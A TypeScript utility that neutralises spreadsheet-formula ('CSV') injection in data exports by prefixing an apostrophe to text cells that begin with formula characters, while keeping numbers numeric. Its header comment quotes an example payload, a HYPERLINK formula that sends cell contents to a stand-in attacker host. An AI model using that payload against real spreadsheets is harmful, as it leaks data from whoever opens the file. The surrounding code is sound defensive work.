/**
 * Spreadsheet-formula injection ("CSV injection"): a cell whose text starts with =, +, -, @, a tab or
 * a carriage return may be run as a formula by Excel, LibreOffice or Google Sheets, e.g. a team named
 * `=HYPERLINK("http://evil.example/?"&A1, "Click")`. Such text gets a leading apostrophe, which the
 * spreadsheet shows as text and does not evaluate (OWASP's advice).
 *
 * Only TEXT is neutralised. Numbers are written from JavaScript numbers, never from text people typed,
 * so they cannot carry a formula; and they must stay numbers: an eNPS of −12 is written `-12` and
 * must not become the text `'-12`. That is why cells are typed (`number` vs `string`) up to the moment
 * they are written, instead of escaping the finished strings.
 */
const FORMULA_START = /^[=+\-@\t\r]/

// Papaparse's own `escapeFormulae` uses /^[=+\-@\t\r].*$/, whose `.*$` fails on text with a line
// break, so "=cmd\nmore" would slip through; this test looks at the first character only.

/** True when a spreadsheet could read this text as a formula. */
export function looksLikeFormula(text: string): boolean {
  return FORMULA_START.test(text)
}

/** The text, prefixed with an apostrophe when a spreadsheet could run it as a formula. */
export function safeText(text: string): string {
  return looksLikeFormula(text) ? `'${text}` : text
}

/** A cell of an export: a number (kept a number), text (neutralised), or empty. */
export type CellValue = string | number | null

/**
 * A cell ready to be written: text neutralised, numbers untouched, and anything that is not a finite
 * number (a missing figure) empty: blank is "no data", never 0.
 */
export function safeCell(value: CellValue): string | number | null {
  if (value === null) return null
  if (typeof value === 'number') return Number.isFinite(value) ? value : null
  return safeText(value)
}
